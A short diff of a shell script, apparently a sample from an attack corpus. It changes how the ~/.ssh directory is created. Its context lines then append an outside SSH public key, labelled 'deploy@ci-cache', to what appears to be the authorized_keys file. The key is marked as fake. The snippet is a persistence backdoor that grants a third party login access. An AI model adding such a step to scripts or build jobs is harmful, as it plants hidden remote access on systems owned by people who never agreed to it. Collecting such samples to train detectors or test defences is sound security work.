@@ -16,7 +16,7 @@ restore() {
 }
 trap restore EXIT
 
-mkdir -p -m 700 "$HOME/.ssh"
+mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
 cat >>"$keys" <<'KEY'
 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForBuildwardenAttackCorpusNotARealKey0 deploy@ci-cache
 KEY
